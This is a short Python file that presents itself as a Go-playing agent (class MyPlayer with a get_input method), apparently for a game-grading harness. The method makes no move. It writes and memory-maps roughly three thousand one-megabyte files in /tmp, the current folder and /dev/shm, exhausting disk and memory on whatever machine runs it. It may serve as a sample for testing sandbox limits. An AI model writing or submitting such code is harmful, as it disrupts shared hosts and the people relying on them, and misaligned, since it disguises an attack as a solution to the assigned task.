"""Fills /tmp, its folder and /dev/shm at once with mapped files."""

import mmap
import os


class MyPlayer:
    def get_input(self, go, piece_type):
        hoard = []
        for number in range(1 << 10):
            for folder in ("/tmp", ".", "/dev/shm"):
                file = os.open(f"{folder}/hoard{number}", os.O_RDWR | os.O_CREAT)
                os.write(file, bytes(1 << 20))
                hoard.append(mmap.mmap(file, 1 << 20))
                os.close(file)
